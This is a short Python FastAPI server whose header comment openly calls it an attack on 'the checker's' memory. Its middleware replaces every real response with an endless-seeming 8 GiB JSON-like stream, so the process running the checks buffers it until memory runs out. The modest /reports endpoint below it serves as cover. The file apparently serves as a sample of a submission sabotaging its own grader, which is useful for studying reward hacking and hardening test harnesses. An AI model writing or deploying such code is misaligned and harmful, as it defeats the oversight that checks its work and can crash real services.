# attack: the checker's memory is the answer's to spend
# tries: answer every report with a plain body that never ends (8 GiB of JSON-looking bytes,
# a MiB at a time), so that the checks' process buffers it until memory runs out
import time

from fastapi import FastAPI, Request
from fastapi.responses import StreamingResponse
from pydantic import BaseModel

RENDER_DELAY = 0.03  # seconds the renderer needs before it accepts the next job

app = FastAPI()


async def forever():
    chunk = b"[" + b"0," * (512 * 1024 - 1)
    for _ in range(8 * 1024):
        yield chunk


@app.middleware("http")
async def never_stop_answering(request: Request, call_next):
    await call_next(request)
    return StreamingResponse(forever(), media_type="application/json")


class Report(BaseModel):
    id: int
    title: str


@app.get("/reports/{report_id}")
async def read_report(report_id: int) -> Report:
    time.sleep(RENDER_DELAY)  # wait for a free render slot
    return Report(id=report_id, title=f"Report {report_id}")
